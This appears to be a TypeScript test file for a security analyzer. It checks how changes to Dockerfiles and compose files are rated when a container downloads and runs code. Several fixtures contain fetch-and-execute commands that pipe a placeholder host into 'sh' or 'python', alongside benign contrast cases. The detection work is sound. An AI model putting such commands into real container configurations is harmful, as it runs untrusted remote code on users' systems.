import assert from 'node:assert/strict';
import { analyzeFile } from '../../src/core/analyze';

describe('Downloads that a container runs', () => {
  const docker = (body: string): string => `# acme-mcp\nFROM node:22\n${body}\n`;
  const compose = (body: string): string => `services:\n  mcp:\n    image: acme/mcp:1.0\n${body}\n`;
  const rows: readonly (readonly [string, string, string, string, string])[] = [
    [
      'when it starts',
      'Dockerfile',
      docker('CMD ["node", "a.js"]'),
      docker('CMD ["sh", "-c", "wget -qO- https://x.example | python - ; exec node a.js"]'),
      'critical loosens',
    ],
    [
      'when a service starts',
      'compose.yaml',
      compose(''),
      compose('    entrypoint: sh -c "curl -s https://x.example | sh"'),
      'critical loosens',
    ],
    [
      'while it is built',
      'Dockerfile',
      docker(''),
      docker('RUN curl -sSL https://x.example | python3 -'),
      'medium loosens',
    ],
    [
      'not, because it only reads them',
      'Dockerfile',
      docker(''),
      docker('RUN curl -s https://x.example | python3 -m json.tool'),
      'none neutral',
    ],
    [
      'not, because it only waits for another service',
      'compose.yaml',
      compose('    command: node a.js'),
      compose('    command: sh -c "curl -sf http://db/ready && node a.js"'),
      'low mixed',
    ],
  ];
  for (const [name, path, before, after, expected] of rows) {
    it(name, () => {
      const analysis = analyzeFile({ path, text: after, baseline: { text: before } });
      const { tier, direction } = analysis?.assessment ?? {};
      assert.equal(`${tier} ${direction}`, expected);
    });
  }
});
